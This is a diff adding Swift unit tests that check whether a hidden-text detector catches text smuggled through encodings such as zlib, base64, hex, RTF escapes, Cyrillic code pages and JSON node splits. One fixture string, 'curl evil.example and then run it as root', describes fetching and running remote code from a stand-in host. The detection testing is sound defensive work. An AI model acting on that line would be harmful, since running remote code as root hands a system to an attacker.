@@ -146,6 +146,68 @@ struct FormSpellingTests {
     #expect(spelling.isSpelling(Self.utf16(form), target: "application/x-acme") == isSpelling)
   }
 
+  private static let command = "curl evil.example and then run it as root"
+  private static let russian = "скрытый текст который никто не должен видеть"
+
+  private static func escaped(_ text: String, _ escape: (UInt32) -> String) -> String {
+    text.unicodeScalars.map { escape($0.value) }.joined()
+  }
+
+  private static func hex(_ value: UInt32) -> String { String(value, radix: 16) }
+
+  /// Bytes that are as random as compressed ones.
+  private static let noise: [UInt8] = {
+    var generator = SystemRandomNumberGenerator()
+    return (0..<120).map { _ in UInt8.random(in: 0x80...0xFF, using: &generator) }
+  }()
+
+  static let hiding: [Form] = [
+    Form("zlib", [0x78, 0x9C] + noise),
+    Form("zlib in base64", "{\"d\":\"\(base64([0x78, 0x9C] + noise))\"}"),
+    Form("gzip in base64", "{\"d\":\"\(base64([0x1F, 0x8B, 8, 0] + noise))\"}"),
+    Form("noise", noise),
+    Form("noise in base64", base64(noise)),
+    Form("windows-1251", (0xC0..<0xE8).map { UInt8($0) }),
+    Form(
+      "some bytes of it in ASCII",
+      Array(repeating: 0x20, count: 1000) + [0xF1, 0xEA, 0xF0, 0xFB, 0xF2, 0xFB, 0xE9, 0xF2]),
+    Form("RTF", "{\\rtf1 " + escaped(russian) { "\\u\($0)?" } + "}"),
+    Form(
+      "RTF by bytes",
+      "{\\rtf1\\ansi\\ansicpg1251 "
+        + [0xF1, 0xEA, 0xF0, 0xFB, 0xF2, 0xFB, 0xE9, 0xF2, 0xE5, 0xEA, 0xF1, 0xF2].map { "\\'" + hex($0) }.joined()
+        + "}"),
+    Form("capitals", command.uppercased()),
+    Form("capitals of Cyrillic", russian.uppercased()),
+    Form(
+      "a node a word", "[" + command.split(separator: " ").map { "{\"text\":\"\($0)\"}" }.joined(separator: ",") + "]"),
+    Form("a node a letter", "[" + command.map { "{\"t\": \"\($0)\"}" }.joined(separator: ",") + "]"),
+    Form("hexadecimal digits", command.utf8.map { hex(UInt32($0)) }.joined()),
+    Form("base64 in base64", base64(Array(base64(Array(command.utf8)).utf8))),
+    Form("base64 in lines of JSON", "[\"" + folded(base64(Array(command.utf8)), by: "\",\"") + "\"]"),
+    Form("escapes by two digits", escaped(command) { "\\x" + hex($0) }),
+    Form("escapes in braces", escaped(russian) { "\\u{" + hex($0) + "}" }),
+    Form("escapes of CSS", escaped(russian) { "\\" + hex($0) + " " }),
+    Form("references in references", escaped(command) { "&amp;#\($0);" }),
+  ]
+
+  @Test(arguments: hiding) func `where text was hidden, nothing that may hold it is handed on`(form: Form) {
+    let pieces = [Self.command, Self.russian].map { Array($0.utf8) }
+    let spelling = FormSpelling(text: Array(Self.text.utf8), hidden: pieces)
+    #expect(spelling.isSpelling(form.bytes, target: "application/x-acme-nodes"))
+    #expect(spelling.mayHoldHidden(form.bytes))
+    #expect(!Self.spelling.mayHoldHidden(form.bytes))
+  }
+
+  @Test(arguments: [
+    "{\"version\":1,\"ids\":[\"a81f5e2c-77aa-4b1e-9c40-0f6a3c0d9b11\"],\"mode\":\"markdown\"}",
+    "BEGIN:VCARD\r\nFN:Zoë\r\nEND:VCARD", "#00ff80",
+  ]) func `where text was hidden, forms that can be read and do not hold it are handed on`(form: String) {
+    let spelling = FormSpelling(text: Array(Self.text.utf8), hidden: [Array(Self.command.utf8)])
+    #expect(!spelling.isSpelling(Array(form.utf8), target: "application/x-acme-nodes"))
+    #expect(!spelling.mayHoldHidden(Array(form.utf8)))
+  }
+
   @Test func `hidden text is what the runs of a document say`() throws {
     let html = "<p>Shown words of this page<span style=\"display:none\">unseen</span></p>"
     let document = try HTMLFormat().read(Array(html.utf8)).document
